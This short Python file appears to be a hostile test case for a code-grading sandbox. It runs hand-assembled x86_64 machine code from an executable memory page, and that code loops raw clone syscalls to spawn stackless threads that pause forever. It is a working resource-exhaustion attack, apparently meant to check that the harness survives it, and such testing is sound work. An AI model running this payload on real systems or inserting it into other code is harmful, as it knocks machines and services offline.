# Starts threads past the C library, by the bare system call, in machine code: none has a stack of its own.
# Mode: call softmax
# Expects: crashed, wrong, timeout, skipped
import ctypes
import mmap
import platform


def attack():
    if platform.machine() != "x86_64":
        return
    # again: clone(VM|FS|FILES|SIGHAND|THREAD|SYSVSEM, 0, 0, 0, 0); the parent goes on, the child pauses for good
    code = "bf000f0500 31f6 31d2 4d31d2 4d31c0 b838000000 0f05 85c0 75e6 b822000000 0f05 ebf7"
    page = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    page.write(bytes.fromhex(code))
    ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(page)))()
